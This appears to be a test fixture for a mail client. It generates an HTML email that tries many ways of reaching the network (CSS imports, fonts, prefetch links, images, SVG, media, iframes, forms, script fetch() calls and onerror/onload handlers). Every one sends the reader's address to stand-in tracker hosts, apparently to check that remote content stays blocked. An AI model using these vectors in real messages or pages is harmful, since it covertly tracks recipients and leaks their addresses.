import type { Canary } from '../../../support/canary.ts';

/** By name and, where nothing is to be looked up first, by number (RFC 5737 and RFC 3849). */
export const trackers = [
  'https://tracker.example',
  'http://198.51.100.77',
  'http://[2001:db8:bad::77]',
];

export const followedLink = 'https://campaign.example/offer';

/** Ways of a mail to the network, each to each tracker, each with the reader in its address. */
export function trackingHtml({ words, address }: Canary): string {
  const who = encodeURIComponent(address);
  return `<html><head>
    ${trackers.map((tracker) => headOf(`${tracker}/${who}`, tracker)).join('\n')}
    </head><body background="${trackers[0]}/${who}/background"><p>${words}</p>
    <p><a href="${followedLink}" ping="${trackers[1]}/${who}/ping">an offer</a></p>
    ${trackers.map((tracker) => bodyOf(`${tracker}/${who}`)).join('\n')}
    </body></html>`;
}

function headOf(to: string, origin: string): string {
  const rels = ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'modulepreload', 'icon'];
  return `<meta http-equiv="refresh" content="0;url=${to}/refresh">
    <base href="${to}/base/">
    ${rels.map((rel) => `<link rel="${rel}" href="${to}/${rel}">`).join('')}
    <link rel="preconnect" href="${origin}" crossorigin>
    <link rel="preload" as="image" href="${to}/preload">
    <link rel="stylesheet" href="${to}/stylesheet">
    <style>@import url("${to}/import");
      @font-face { font-family: F; src: url("${to}/font") }
      p { font-family: F; background: url("${to}/css"); cursor: url("${to}/cursor"), auto }
      p::after { content: url("${to}/content") }</style>`;
}

function bodyOf(to: string): string {
  return `<img src="${to}/img" srcset="${to}/srcset 2x"><img src="//tracker.example/scheme">
    <picture><source srcset="${to}/source"><img src="relative"></picture>
    <div style="background-image:image-set('${to}/image-set' 1x)">x</div>
    <svg><image href="${to}/svg-image"/><use href="${to}/svg-use#a"/>
      <style>@import '${to}/svg-import';</style></svg>
    <video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay></audio>
    <iframe src="${to}/frame"></iframe><object data="${to}/object"></object><embed src="${to}/embed">
    <input type="image" src="${to}/input"><form action="${to}/form"><button>x</button></form>
    <script src="${to}/script"></script><script>fetch('${to}/fetch')</script>
    <img src="x" onerror="fetch('${to}/onerror')"><body onload="fetch('${to}/onload')">`;
}
